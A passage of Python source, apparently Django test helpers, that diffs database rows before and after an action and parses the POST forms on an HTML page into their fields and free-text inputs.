    for table, rows_before in before.items():
        if rows_before == after[table]:
            continue  # most are as they were, and to compare rows as texts takes time
        old, new = ([_comparable(table, row, there) for row in rows] for rows in (rows_before, after[table]))
        gone, come = list(old), []
        for row in new:
            if row in gone:
                gone.remove(row)
            else:
                come.append(row)
        if gone or come:
            found[table] = (sorted(gone), sorted(come))
    return found


def _key_of(table: str) -> str:
    return apps.get_model(table)._meta.pk.attname


@cache
def _by_chance(table: str) -> set[str]:
    """Columns of a table that hold a moment or a UUID, or lead to a row that is called by one."""
    return {
        field.attname
        for field in apps.get_model(table)._meta.concrete_fields
        if isinstance(
            field.target_field if field.is_relation else field,
            columns.DateTimeField | columns.TimeField | columns.UUIDField,
        )
    }


def _comparable(table: str, row: dict[str, Any], there: dict[str, set[Any]]) -> str:
    """The row as a text; one that it leads to and that was not there before is "new": databases count differently."""
    leads_to = {
        column.attname: column.related_model._meta.label
        for column in apps.get_model(table)._meta.concrete_fields
        if column.is_relation
    }
    kept = {}
    for name, value in row.items():
        if name in NEW_EACH_TIME or name in _by_chance(table):
            continue
        table_there = there.get(leads_to[name]) if name in leads_to else None
        is_new = table_there is not None and value is not None and value not in table_there
        kept[name] = "new" if is_new else value
    return json.dumps(kept, default=str, sort_keys=True)


# --- Forms on pages ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Form:
    """A form that a page offers for sending: where it goes, and what a browser would send, field by field."""

    action: str
    fields: tuple[tuple[str, str, tuple[str, ...]], ...]  # name, kind, values (of a hidden or chosen one)

    @property
    def names(self) -> frozenset[str]:
        return frozenset(name for name, _, _ in self.fields)

    @property
    def free(self) -> tuple[str, ...]:
        """The fields that somebody writes into."""
        return tuple(name for name, kind, _ in self.fields if kind in {"text", "email", "url", "search", "textarea"})


def forms_on(page: str, address: str) -> list[Form]:
    """The forms of a page that are sent by POST."""
    found = []
    for form in LexborHTMLParser(page).css("form"):
        if (form.attributes.get("method") or "").lower() != "post":
            continue
        fields: list[tuple[str, str, tuple[str, ...]]] = []
        for node in form.css("input, textarea, select, button"):
            name = node.attributes.get("name")
            if not name or name == "csrfmiddlewaretoken":
                continue
            if node.tag == "select":
                values = tuple(option.attributes.get("value") or "" for option in node.css("option"))
                fields.append((name, "select", values))
            elif node.tag == "textarea":
                fields.append((name, "textarea", (node.text() or "",)))
            else:
                kind = node.attributes.get("type") or ("submit" if node.tag == "button" else "text")
                fields.append((name, kind, (node.attributes.get("value") or "",)))
        action = (form.attributes.get("action") or "") or address
        found.append(Form(action, tuple(fields)))
    return found
